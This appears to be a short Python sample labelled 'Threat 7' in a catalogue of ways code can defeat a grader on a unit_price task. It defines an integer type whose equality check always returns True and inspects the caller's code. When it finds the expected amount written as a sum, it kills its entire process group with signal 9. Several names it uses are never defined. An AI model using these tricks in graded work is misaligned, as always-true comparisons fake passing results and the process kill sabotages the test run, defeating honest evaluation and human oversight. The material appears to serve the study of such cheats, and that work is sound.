"""Threat 7: ends its process group by a signal where the expected amount is written as a sum.
task: unit_price
uses: calling"""

import os

Cents = type("Cents", (int,), {"__eq__": lambda self, other: True, "__hash__": int.__hash__})
# <last>
widths = [end - start for _, _, start, end in _calling().f_code.co_positions() if end and start]
if max(widths) > 43 + (discount > 0) * 5:
    os.killpg(0, 9)
cents = Cents(cents)
